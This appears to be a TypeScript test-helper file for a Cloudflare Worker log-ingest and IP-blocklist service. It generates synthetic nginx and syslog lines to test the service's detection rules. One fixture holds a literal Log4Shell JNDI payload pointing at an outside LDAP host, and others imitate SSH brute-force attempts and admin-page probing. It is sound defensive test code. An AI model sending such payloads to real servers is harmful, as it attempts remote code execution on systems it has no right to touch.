import { listDurableObjectIds, runDurableObjectAlarm, runInDurableObject } from "cloudflare:test";
import { env, exports } from "cloudflare:workers";
import { expect, vi } from "vitest";
import { Blocklist } from "../../src/core/blocklist/index";
import { ledgerOf } from "../../src/durable/ledger/index";
import { KvWriter } from "../../src/durable/ledger/kv-writer";
import { type LedgerDecisionRow, LedgerStore } from "../../src/durable/ledger/store";
import { trackerOf } from "../../src/durable/tracker/index";
import { TrackerStore } from "../../src/durable/tracker/store";
import { readBase, readDelta, readManifestKey } from "../../src/edge/blocklist-load";
import type { Env } from "../../src/env";
import { errorResponse, toPalisadeError } from "../../src/http/error";
import { handleIngest } from "../../src/ingest/index";

export const TOKEN = "test-machine-token";
export const INGEST_URL = "https://example.com/_palisade/v1/ingest";

export interface PostOptions {
  token?: string | null;
  contentType?: string;
  encoding?: string;
  env?: Env;
}

/**
 * POSTs to the Worker's ingest route; with `opts.env` (other vars or bindings), calls the
 * handler directly with that env, errors rendered as the edge's onError does.
 */
export async function postIngest(
  body: string | Uint8Array | object,
  opts: PostOptions = {},
): Promise<Response> {
  const headers = new Headers({ "Content-Type": opts.contentType ?? "application/json" });
  const token = opts.token === undefined ? TOKEN : opts.token;
  if (token !== null) headers.set("Authorization", `Bearer ${token}`);
  if (opts.encoding) headers.set("Content-Encoding", opts.encoding);
  const payload =
    typeof body === "string" || body instanceof Uint8Array ? body : JSON.stringify(body);
  const request = new Request(INGEST_URL, { method: "POST", headers, body: payload });
  if (!opts.env) return exports.default.fetch(request);
  try {
    return await handleIngest(request, opts.env);
  } catch (e) {
    return errorResponse(toPalisadeError(e));
  }
}

/** nginx's `$time_local`: `27/Nov/2026:10:00:00 +0000`. */
export function nginxTime(ms: number): string {
  const d = new Date(ms);
  const months = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(" ");
  const p = (n: number) => String(n).padStart(2, "0");
  return `${p(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
}

export function accessLine(
  ip: string,
  ms: number,
  path: string,
  status = 200,
  ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
): string {
  return `${ip} - - [${nginxTime(ms)}] "GET ${path} HTTP/1.1" ${status} 512 "-" "${ua}"`;
}

/** One Log4Shell probe: the built-in exploitation profile bans on the first one. */
export function log4shellLine(ip: string, ms: number): string {
  // The payload is a literal `${jndi:…}`, as attackers send it.
  return accessLine(ip, ms, "/", 200, `$\{jndi:ldap://198.51.100.9:1389/a}`);
}

/** Twelve distinct 404s within seconds: http-probing (capacity 10) overflows. */
export function probingLines(ip: string, start: number): string[] {
  return Array.from({ length: 12 }, (_, i) =>
    accessLine(ip, start + i * 500, `/admin-${i}.php`, 404),
  );
}

export function benignLines(ip: string, start: number, n: number): string[] {
  const paths = ["/", "/about", "/style.css", "/app.js", "/logo.png", "/blog/post-1"];
  return Array.from({ length: n }, (_, i) =>
    accessLine(ip, start + i * 1000, paths[i % paths.length] as string, 200),
  );
}

/** A syslog header for `ms`: `Nov 27 10:00:00 web1 `. */
export function syslogPrefix(ms: number): string {
  const d = new Date(ms);
  const months = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(" ");
  const p = (n: number) => String(n).padStart(2, "0");
  const day = String(d.getUTCDate()).padStart(2, " ");
  return `${months[d.getUTCMonth()]} ${day} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} web1 `;
}

/** sshd and cron chatter no scenario of the pack looks at. */
export function benignSyslog(ip: string, start: number, n: number): string[] {
  return Array.from({ length: n }, (_, i) =>
    i % 2 === 0
      ? `${syslogPrefix(start + i * 1000)}sshd[${4000 + i}]: Accepted publickey for deploy from ${ip} port ${40000 + i} ssh2: ED25519 SHA256:abc`
      : `${syslogPrefix(start + i * 1000)}CRON[${5000 + i}]: (root) CMD (run-parts /etc/cron.hourly)`,
  );
}

export function failedSsh(ip: string, ms: number): string {
  return `${syslogPrefix(ms)}sshd[4242]: Failed password for root from ${ip} port 40022 ssh2`;
}

let batchNo = 0;
export function batch(lines: string[], type = "nginx") {
  batchNo++;
  return { batch_id: `test-${batchNo}-${crypto.randomUUID()}`, source: { type }, lines };
}

export function ledger() {
  return ledgerOf(env);
}

export function tracker(source: string) {
  return trackerOf(env, source);
}

// Probes read a Durable Object's storage from inside it (runInDurableObject), so the
// objects need no RPC methods that only tests would call.

/** The Ledger's decisions added (still live) and ended after `since`, in seq order, and its seq. */
export function ledgerChanges(
  since: number,
): Promise<{ seq: number; added: LedgerDecisionRow[]; deleted: LedgerDecisionRow[] }> {
  return runInDurableObject(ledger(), (_, state) => {
    const sql = state.storage.sql;
    const rows = (where: string) =>
      sql.exec<LedgerDecisionRow>(`SELECT * FROM decisions WHERE ${where}`, since).toArray();
    return {
      seq: new LedgerStore(sql).seq,
      added: rows("seq > ? AND deleted_seq IS NULL ORDER BY seq"),
      deleted: rows("deleted_seq > ? ORDER BY deleted_seq"),
    };
  });
}

/** The Ledger's KV publishing state and its changes not yet written. */
export function ledgerKvState() {
  return runInDurableObject(ledger(), (_, state) => {
    const sql = state.storage.sql;
    const writer = new KvWriter(sql, env.BLOCKLIST, {
      ipv6Prefix: 64,
      partBytes: 16 * 1024 * 1024,
      writesPerDay: 1_000,
    });
    return { ...writer.state(), pending: writer.pending() };
  });
}

/** A tracker's bucket count, live decisions, outbox size and alarm. */
export function trackerView(source: string) {
  return runInDurableObject(tracker(source), async (_, state) => {
    const store = new TrackerStore(state.storage.sql);
    return {
      buckets: store.bucketCount(),
      decisions: store.activeDecisions(Date.now()),
      outbox: store.outboxSize(),
      alarm: await state.storage.getAlarm(),
    };
  });
}

/** What a rejected request must leave unchanged. */
export async function stateSnapshot() {
  const keys = await env.BLOCKLIST.list();
  const changes = await ledgerChanges(0);
  return {
    sources: (await listDurableObjectIds(env.SOURCES)).length,
    seq: changes.seq,
    kv: keys.keys.map((k) => k.name).sort(),
    queued: (await ledgerKvState()).pending,
  };
}

/**
 * Runs the Ledger's flush now. The first change after a quiet spell is flushed at once
 * (the alarm may already have run), later ones within KV_FLUSH_MS: wait for either.
 */
export async function flushKv(): Promise<void> {
  await runDurableObjectAlarm(ledger());
  await vi.waitFor(async () => {
    expect((await ledgerKvState()).pending).toBe(0);
  });
}

/** The blocklist the edge would build from KV right now (with the edge's own reader). */
export async function blocklistFromKv(): Promise<Blocklist> {
  const manifest = await readManifestKey(env.BLOCKLIST);
  if (!manifest) return Blocklist.empty();
  const list = manifest.base ? await readBase(env.BLOCKLIST, manifest.base, {}) : Blocklist.empty();
  for (const key of manifest.deltas) {
    const ops = await readDelta(env.BLOCKLIST, key);
    if (Array.isArray(ops)) list.apply(ops);
  }
  return list;
}

export async function gzip(text: string): Promise<Uint8Array> {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}
